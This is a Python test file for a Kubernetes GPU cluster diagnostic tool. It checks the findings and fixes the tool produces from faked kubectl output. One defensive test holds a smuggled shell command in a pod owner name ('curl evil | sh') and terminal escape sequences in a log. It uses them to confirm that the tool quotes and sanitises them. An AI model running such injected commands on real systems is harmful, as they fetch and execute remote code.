"""Faults of a cluster: each symptom is seeded in what kubectl prints, and found; a sound cluster has none."""

import copy
import json
from datetime import UTC, datetime
from typing import Any

import pytest
from msgspec.structs import replace

from agent.cli.doctor.bundle import ClusterDiagnosis, Report, in_words
from agent.cli.doctor.cluster import findings, read_cluster
from agent.cli.doctor.host import HostDiagnosis
from agent.vendors.host_vendor import Cluster, Finding
from tests.fakes.host import Host

NOW = 1_800_000_000.0
RECENT, EARLIER = "2027-01-15T07:58:00Z", "2027-01-10T00:00:00Z"
SET: dict[str, Any] = {"f:metadata": {"f:labels": {"f:nvidia.com/gpu.deploy.driver": {}}}}
NODE: dict[str, Any] = {
    "metadata": {
        "name": "gpu-node",
        "creationTimestamp": EARLIER,
        "labels": {"nvidia.com/gpu.present": "true", "nvidia.com/gpu.deploy.driver": "pre-installed"},
        "managedFields": [{"manager": "gpu-operator", "time": EARLIER, "fieldsV1": SET}],
    },
    "status": {"allocatable": {"nvidia.com/gpu": "2"}},
}
STRATEGY = {"name": "DEVICE_LIST_STRATEGY", "value": "envvar"}
RUNNING = {"phase": "Running", "containerStatuses": [{"state": {"running": {"startedAt": EARLIER}}}]}
PLUGIN: dict[str, Any] = {
    "metadata": {
        "namespace": "kube-system",
        "name": "nvidia-device-plugin-x",
        "ownerReferences": [{"kind": "DaemonSet", "name": "nvidia-device-plugin"}],
    },
    "spec": {
        "nodeName": "gpu-node",
        "nodeSelector": {"nvidia.com/gpu.present": "true"},
        "containers": [{"image": "nvcr.io/nvidia/k8s-device-plugin:v0.19.0", "env": [STRATEGY]}],
        "initContainers": [{"name": "toolkit-validation"}],
    },
    "status": {
        **RUNNING,
        "initContainerStatuses": [{"name": "toolkit-validation", "state": {"terminated": {"reason": "Completed"}}}],
    },
}
POD: dict[str, Any] = {
    "metadata": {"namespace": "default", "name": "train"},
    "spec": {
        "nodeName": "gpu-node",
        "runtimeClassName": "nvidia",
        "containers": [{"image": "cuda", "resources": {"limits": {"nvidia.com/gpu": "1"}}}],
    },
    "status": RUNNING,
}
FAILED = {"terminated": {"reason": "Error", "exitCode": 1}}
CRASHED = [{"state": {"waiting": {"reason": "CrashLoopBackOff"}}, "lastState": FAILED}]


def changed(item: dict[str, Any], *path: str, to: object) -> dict[str, Any]:
    """Return a copy of the object with one value changed; None removes it."""
    result = copy.deepcopy(item)
    place = result
    for key in path[:-1]:
        place = place.setdefault(key, {})
    if to is None:
        place.pop(path[-1], None)
    else:
        place[path[-1]] = to
    return result


CRASHING = changed(PLUGIN, "status", "containerStatuses", to=CRASHED)


def cluster(*pods: dict[str, Any], node: dict[str, Any] = NODE, **others: object) -> Cluster:
    return replace(Cluster(nodes=(node,), pods=pods or (PLUGIN, POD), now=NOW), **others)


def only(found: Cluster) -> Finding:
    (finding,) = findings(found)
    return finding


def event(message: str, name: str = "nfd-worker", time: str = RECENT) -> dict[str, Any]:
    involved = {"kind": "DaemonSet", "namespace": "gpu-operator", "name": name}
    return {"message": message, "lastTimestamp": time, "involvedObject": involved}


def test_a_sound_cluster_has_no_finding() -> None:
    assert findings(cluster()) == ()
    assert findings(Cluster()) == ()
    hollow = {"spec": None, "status": None}
    assert findings(Cluster(nodes=({},), pods=({}, hollow), daemon_sets=({},), events=({},))) == ()


@pytest.mark.parametrize(
    ("log", "cause"),
    [
        ("Error: libcuda.so: cannot open shared object file: No such file", "does not find the driver's libraries"),
        ("libnvidia-ml.so.1: cannot open shared object file", "does not find the driver's libraries"),
        ("error parsing flags: invalid strategy: envvars", "DEVICE_LIST_STRATEGY has a value that does not exist"),
        ("panic: index out of range", "the device plugin keeps failing"),
    ],
)
def test_the_plugin_crashes(log: str, cause: str) -> None:
    finding = only(cluster(CRASHING, POD, logs={"kube-system/nvidia-device-plugin-x": f"starting\n{log}\n"}))
    assert cause in finding.cause
    assert "kube-system/nvidia-device-plugin-x" in finding.evidence
    assert finding.fix


def test_attack_what_a_pod_says_controls_neither_the_terminal_nor_a_command() -> None:
    """Any pod may write this as its log or last message; whoever makes a pod may call its owner anything."""
    owner = [{"kind": "DaemonSet", "name": "x; curl evil | sh #"}]
    plugin = changed(CRASHING, "metadata", "ownerReferences", to=owner)
    log = "invalid strategy: \x1b[2J\x1b]0;evil\x07"
    finding = only(cluster(plugin, logs={"kube-system/nvidia-device-plugin-x": log}))
    assert "set env 'daemonset/x; curl evil | sh #' DEVICE_LIST_STRATEGY" in finding.fix[0]
    lines = list(in_words(Report((), HostDiagnosis(), ClusterDiagnosis((finding,)))))
    assert any("evil" in line for line in lines)
    assert all(line.isprintable() for line in lines)


def test_a_wrong_strategy_is_corrected_where_it_is_set() -> None:
    finding = only(cluster(CRASHING, logs={"kube-system/nvidia-device-plugin-x": "invalid strategy: envvars"}))
    where = "kubectl -n kube-system set env daemonset/nvidia-device-plugin"
    assert finding.fix[0].startswith(f"{where} DEVICE_LIST_STRATEGY=envvar")
    waiting: list[dict[str, Any]] = [{"name": "toolkit-validation", "state": {"running": {"startedAt": EARLIER}}}]
    plugin = changed(PLUGIN, "status", "initContainerStatuses", to=waiting)
    assert "machines.NAME.validation_markers = true" in only(cluster(plugin, POD)).fix[0]
    waiting[0]["state"] = {"running": {"startedAt": RECENT}}
    assert findings(cluster(changed(PLUGIN, "status", "initContainerStatuses", to=waiting))) == ()


def test_the_operator_installs_a_driver() -> None:
    selected = {"nvidia.com/gpu.deploy.driver": "true"}
    node = changed(NODE, "metadata", "labels", to={"nvidia.com/gpu.present": "true", **selected})
    daemon_set = {
        "metadata": {"namespace": "gpu-operator", "name": "nvidia-driver-daemonset"},
        "spec": {"template": {"spec": {"nodeSelector": selected}}},
        "status": {"desiredNumberScheduled": 1},
    }
    (fix,) = only(cluster(node=node, daemon_sets=(daemon_set,))).fix
    assert "--version VERSION --reuse-values --set driver.enabled=false" in fix, "the newest would be installed"
    assert findings(cluster(daemon_sets=(daemon_set,))) == ()


def test_the_label_that_pods_select_is_missing() -> None:
    finding = only(cluster(node=changed(NODE, "metadata", "labels", to={})))
    assert "not the label nvidia.com/gpu.present=true" in finding.cause
    assert not any("GPU Feature Discovery" in each for each in finding.fix), "it does not set this label"
    assert finding.fix[0] == "kubectl label node gpu-node nvidia.com/gpu.present=true"
    node = copy.deepcopy(NODE)
    node["metadata"]["managedFields"][0]["time"] = RECENT
    finding = only(cluster(node=node))
    assert "keeps setting labels of node gpu-node" in finding.cause
    assert f"set by gpu-operator at {RECENT}" in finding.evidence
    new = changed(node, "metadata", "creationTimestamp", to=RECENT)
    assert findings(cluster(node=new)) == (), "a new Node gets its labels"


def test_a_resource_without_a_runtime_class() -> None:
    pod = changed(POD, "spec", "runtimeClassName", to=None)
    assert "no runtime class" in only(cluster(PLUGIN, pod)).cause
    cdi = copy.deepcopy(PLUGIN)
    cdi["spec"]["containers"][0]["env"][0]["value"] = "cdi-cri"
    assert findings(cluster(cdi, pod)) == (), "with CDI, no runtime class is needed"
    assert findings(cluster(pod)) == (), "without a plugin, its strategy is unknown"


@pytest.mark.parametrize(
    "message",
    [
        "nvidia-container-cli: requirement error: unsatisfied condition: cuda>=12.8, please update your driver",
        "CUDA error: CUDA driver version is insufficient for CUDA runtime version",
    ],
)
def test_cuda_that_is_too_new(message: str) -> None:
    pod = changed(POD, "status", "containerStatuses", to=CRASHED)
    finding = only(cluster(PLUGIN, pod, logs={"default/train": message}))
    assert finding.cause == "a pod's CUDA is newer than the driver supports"


@pytest.mark.parametrize(
    ("message", "fix"),
    [
        (
            'pods "x" is forbidden: violates PodSecurity "baseline:latest": hostPath volumes (volume "a")',
            "kubectl label --overwrite namespace gpu-operator pod-security.kubernetes.io/enforce=privileged",
        ),
        ('pods "x" is forbidden: pod rejected: RuntimeClass "nvidia" not found', "kube manifests runtime-class"),
        ('Failed to create pod sandbox: no runtime for "nvidia" is configured', "RuntimeConfigured"),
        ("unresolvable CDI devices nvidia.com/gpu=GPU-1", "CDISpecCurrent"),
        ("failed to generate apparmor spec opts: apparmor is not supported", "remove appArmorProfile"),
    ],
)
def test_what_events_say(message: str, fix: str) -> None:
    finding = only(cluster(events=(event(message), event(message, name="another"))))
    assert fix in finding.fix[0]
    assert findings(cluster(events=(event(message, time=EARLIER),))) == (), "that was long ago"


# ---- reading


def kubectl(host: Host, *arguments: str, items: list[dict[str, Any]], status: int = 0) -> None:
    argv = ("kubectl", "--kubeconfig=/k", "get", *arguments, "--ignore-not-found", "--output=json")
    host.command(*argv, stdout=json.dumps({"items": items}), stderr="forbidden\n" * status, status=status)


@pytest.fixture
def api(host: Host) -> Host:
    every = "--all-namespaces"
    kubectl(host, "nodes", "gpu-node", "--show-managed-fields", items=[NODE])
    kubectl(host, "pods", every, "--field-selector=status.phase=Pending", items=[])
    kubectl(host, "pods", every, "--field-selector=spec.nodeName=gpu-node", items=[PLUGIN, POD])
    kubectl(host, "daemonsets.apps", every, items=[])
    kubectl(host, "events", every, "--field-selector=type=Warning", items=[])
    return host


def test_what_kubectl_reads(api: Host) -> None:
    found = read_cluster(api, "/k", ["gpu-node"])
    assert (found.nodes, found.pods, found.unknown, found.logs) == ([NODE], [PLUGIN, POD], (), {})
    assert findings(found) == ()


def test_another_nodes_faults_are_not_reported(api: Host) -> None:
    """The device plugin's DaemonSet has pods on all nodes; only some may have the handler."""
    failing = changed(CRASHING, "spec", "nodeName", to="other")
    failing = changed(failing, "metadata", "name", to="nvidia-device-plugin-y")
    kubectl(api, "pods", "--all-namespaces", "--field-selector=status.phase=Pending", items=[failing])
    no_handler = event('no runtime for "nvidia" is configured', time=datetime.now(UTC).isoformat())
    for host, causes in (("other", 0), ("gpu-node", 1), (None, 1)):
        seen = changed(no_handler, "source", to={"component": "kubelet", "host": host})
        kubectl(api, "events", "--all-namespaces", "--field-selector=type=Warning", items=[seen])
        assert len(findings(read_cluster(api, "/k", ["gpu-node"]))) == causes


def test_logs_are_read_of_pods_that_fail(api: Host) -> None:
    kubectl(api, "pods", "--all-namespaces", "--field-selector=spec.nodeName=gpu-node", items=[CRASHING])
    log = ("logs", "--namespace=kube-system", "nvidia-device-plugin-x", "--all-containers", "--previous")
    missing = 'previous terminated container "init" in pod "nvidia-device-plugin-x" not found'
    # As kubectl 1.36 prints it. Without --ignore-errors, it ends with 1 at the init container, before the other one.
    text = f"error: {missing}\ninvalid strategy: envvars\n"
    api.command("kubectl", "--kubeconfig=/k", *log, "--tail=50", stderr=f"Error from server: {missing}", status=1)
    api.command("kubectl", "--kubeconfig=/k", *log, "--ignore-errors", "--tail=50", stdout=text)
    assert "DEVICE_LIST_STRATEGY" in only(read_cluster(api, "/k", ["gpu-node"])).cause


def test_what_the_user_may_not_read_is_unknown(api: Host) -> None:
    kubectl(api, "daemonsets.apps", "--all-namespaces", items=[], status=1)
    found = read_cluster(api, "/k", ["gpu-node"])
    (why,) = found.unknown
    assert why.startswith("daemonsets.apps of the cluster: ")
    assert "forbidden" in why
